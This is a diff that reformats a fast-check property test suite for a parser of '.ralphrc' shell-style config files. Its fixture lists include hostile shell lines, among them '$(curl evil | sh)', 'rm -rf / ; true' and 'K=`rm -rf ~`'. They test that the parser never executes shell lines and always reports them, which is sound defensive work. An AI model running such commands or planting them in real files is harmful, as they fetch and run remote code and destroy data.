@@ -12,10 +12,65 @@ const RUNS = 400;
 // Pieces a hostile or sloppy .ralphrc is made of: quoting, expansions, substitutions, shell
 // operators and keywords, odd line endings and a BOM.
 const TOKENS = [
-  'KEY=', 'MAX_LOOPS=', 'export ', 'CLAUDE_MODEL=', 'A_B=', '=', '"', "'", '`', '\\', '$', '${', '}', '${X:-',
-  '$(', '$((', ')', '(', '#', ' # c', ';', '&&', '||', '|', '>', '<', '~', '~/', ' ', '\t', '\n', '\r\n', '\r',
-  '\uFEFF', 'if', 'then', 'fi', 'for', 'do', 'done', 'case', 'esac', '{', 'function', 'source', 'eval', '[', ']',
-  '+=', 'value', 'x y', '$HOME', '$1', '$@', "$'", 'touch pwned', 'é', '😀', '\u0000',
+  'KEY=',
+  'MAX_LOOPS=',
+  'export ',
+  'CLAUDE_MODEL=',
+  'A_B=',
+  '=',
+  '"',
+  "'",
+  '`',
+  '\\',
+  '$',
+  '${',
+  '}',
+  '${X:-',
+  '$(',
+  '$((',
+  ')',
+  '(',
+  '#',
+  ' # c',
+  ';',
+  '&&',
+  '||',
+  '|',
+  '>',
+  '<',
+  '~',
+  '~/',
+  ' ',
+  '\t',
+  '\n',
+  '\r\n',
+  '\r',
+  '\uFEFF',
+  'if',
+  'then',
+  'fi',
+  'for',
+  'do',
+  'done',
+  'case',
+  'esac',
+  '{',
+  'function',
+  'source',
+  'eval',
+  '[',
+  ']',
+  '+=',
+  'value',
+  'x y',
+  '$HOME',
+  '$1',
+  '$@',
+  "$'",
+  'touch pwned',
+  'é',
+  '😀',
+  '\u0000',
 ];
 const tokenText = fc.array(fc.constantFrom(...TOKENS), { maxLength: 60 }).map((t) => t.join(''));
 const anyText = fc.oneof(tokenText, fc.string({ unit: 'binary', maxLength: 400 }), fc.string({ unit: 'binary-ascii', maxLength: 400 }));
@@ -26,13 +81,33 @@ const oneLineValue = fc.string({ unit: 'binary', maxLength: 40 }).filter((v) => 
 // Words that open or close a compound command: the reader skips everything inside one, by design.
 const BLOCK_WORDS = new Set(['if', 'for', 'while', 'until', 'case', 'select', '{', 'fi', 'done', 'esac', '}']);
 const isSingleLineShell = (line: string) =>
-  !line.replace(/#.*$/, '').split(/[\s;&|()]+/).some((word) => BLOCK_WORDS.has(word));
+  !line
+    .replace(/#.*$/, '')
+    .split(/[\s;&|()]+/)
+    .some((word) => BLOCK_WORDS.has(word));
 
 // Lines that need a shell (never run, always reported) and do not open a block.
 const SHELL_LINES = [
-  'X=$(touch pwned)', 'Y=`id`', 'echo hello', 'rm -rf / ; true', 'source ~/.bashrc', 'alias ll=ls', 'Z=a b',
-  'W=1; touch pwned', 'V=$((1+2))', 'U="unterminated', "T='open", 'S=${X/a/b}', 'arr[0]=1', 'Q+=more', 'P=$1',
-  'cat > /tmp/x <<EOF', 'eval "$CMD"', '$(curl evil | sh)', 'K=`rm -rf ~`', 'exec bash',
+  'X=$(touch pwned)',
+  'Y=`id`',
+  'echo hello',
+  'rm -rf / ; true',
+  'source ~/.bashrc',
+  'alias ll=ls',
+  'Z=a b',
+  'W=1; touch pwned',
+  'V=$((1+2))',
+  'U="unterminated',
+  "T='open",
+  'S=${X/a/b}',
+  'arr[0]=1',
+  'Q+=more',
+  'P=$1',
+  'cat > /tmp/x <<EOF',
+  'eval "$CMD"',
+  '$(curl evil | sh)',
+  'K=`rm -rf ~`',
+  'exec bash',
 ];
 const garbageLine = fc
   .oneof(
@@ -67,16 +142,20 @@ describe('parseRalphrc (property)', () => {
 
   it('keeps every well-formed assignment among shell lines, and reports each shell line', () => {
     const line = fc.oneof(
-      { weight: 2, arbitrary: fc.record({ kind: fc.constant('good' as const), key: keyName, value: oneLineValue, exported: fc.boolean(), comment: fc.boolean() }) },
+      {
+        weight: 2,
+        arbitrary: fc.record({ kind: fc.constant('good' as const), key: keyName, value: oneLineValue, exported: fc.boolean(), comment: fc.boolean() }),
+      },
       { weight: 1, arbitrary: fc.record({ kind: fc.constant('shell' as const), text: garbageLine }) },
-      { weight: 1, arbitrary: fc.record({ kind: fc.constant('comment' as const), text: fc.string({ maxLength: 20 }).map((s) => `# ${s.replace(/[\r\n]/g, ' ')}`) }) },
+      {
+        weight: 1,
+        arbitrary: fc.record({ kind: fc.constant('comment' as const), text: fc.string({ maxLength: 20 }).map((s) => `# ${s.replace(/[\r\n]/g, ' ')}`) }),
+      },
     );
     fc.assert(
       fc.property(fc.array(line, { maxLength: 25 }), fc.constantFrom('\n', '\r\n'), (lines, eol) => {
         const rendered = lines.map((l) =>
-          l.kind === 'good'
-            ? `${l.exported ? 'export ' : ''}${l.key}=${renderRalphrcValue(l.value)}${l.comment ? '  # note' : ''}`
-            : l.text,
+          l.kind === 'good' ? `${l.exported ? 'export ' : ''}${l.key}=${renderRalphrcValue(l.value)}${l.comment ? '  # note' : ''}` : l.text,
         );
         const { entries, problems } = parseRalphrc(rendered.join(eol) + eol, { env: {} });
         const expected = lines.flatMap((l, i) => (l.kind === 'good' ? [{ key: l.key, value: l.value, line: i + 1 }] : []));
@@ -116,9 +195,20 @@ describe('updateRalphrcText (property)', () => {
   const KEY = 'CLAUDE_MODEL';
   const fileLine = fc.oneof(
     fc.constantFrom(
-      `${KEY}=sonnet`, `export ${KEY}="opus"  # the model`, `${KEY}='haiku'`, `${KEY}=a"b"'c'`, `  ${KEY}=\${OTHER:-x}`,
-      `${KEY}=two words`, `if [ -n "$CI" ]; then\n  ${KEY}=ci\nfi`, `{\n${KEY}=braced\n}`, 'MAX_LOOPS=3', 'OTHER=1',
-      '# a comment', '', 'echo $(date)', `${KEY}=$(whoami)`,
+      `${KEY}=sonnet`,
+      `export ${KEY}="opus"  # the model`,
+      `${KEY}='haiku'`,
+      `${KEY}=a"b"'c'`,
+      `  ${KEY}=\${OTHER:-x}`,
+      `${KEY}=two words`,
+      `if [ -n "$CI" ]; then\n  ${KEY}=ci\nfi`,
+      `{\n${KEY}=braced\n}`,
+      'MAX_LOOPS=3',
+      'OTHER=1',
+      '# a comment',
+      '',
+      'echo $(date)',
+      `${KEY}=$(whoami)`,
     ),
     garbageLine,
   );
